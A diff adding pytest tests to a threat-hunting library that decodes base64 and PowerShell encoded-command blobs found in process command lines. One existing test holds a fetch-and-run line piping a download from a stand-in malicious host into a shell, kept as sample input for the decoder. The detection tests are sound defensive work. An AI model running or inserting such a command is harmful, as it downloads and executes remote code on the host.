@@ -19,6 +19,32 @@ def test_powershell_encoded_command_is_decoded_as_utf16():
     assert decode_command_line(line) == [CRADLE]
 
 
+@pytest.mark.parametrize("switch", ["-enc", "-EncodedCommand", "/e", "-ec", "\u2013enco", "-EnCoDeD"])
+def test_every_spelling_of_the_encoded_command_switch_decodes_without_msticpy(switch):
+    from hunting_lib.indicators import powershell_encoded_commands
+
+    texts, rest = powershell_encoded_commands(f'powershell.exe -nop {switch} "{encode_ps(CRADLE)}" -x')
+    assert texts == [CRADLE] and encode_ps(CRADLE) not in rest
+
+
+def test_the_encoded_command_decodes_as_msticpys_unpacker_does():
+    """The same blob, found by msticpy (no switch before it) and by the switch parser."""
+    blob = encode_ps("Get-Process | Where-Object { $_.CPU -gt 100 } ; whoami /all")
+    assert decode_command_line(f"x.exe /data:{blob}") == decode_command_line(f"powershell -enc {blob}")
+    assert decode_command_line(f"powershell -enc {blob}") == ["Get-Process | Where-Object { $_.CPU -gt 100 } ; whoami /all"]
+
+
+def test_long_words_do_not_load_msticpy():
+    import subprocess
+    import sys
+
+    probe = ("import sys; from hunting_lib.indicators import decode_command_line as d; "
+             "r = d(r'cmd.exe /c msiexec.exe /i \\\\fs01\\GoogleChromeStandaloneEnterprise64.msi /quiet'); "
+             "print(r, 'msticpy' in sys.modules)")
+    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
+    assert done.stdout.strip() == "[] False", done.stderr
+
+
 def test_utf8_base64_is_decoded_too():
     blob = base64.b64encode(b"curl http://malicious.example.com/payload | sh").decode()
     assert decode_command_line(f"cmd /c echo {blob}") == ["curl http://malicious.example.com/payload | sh"]
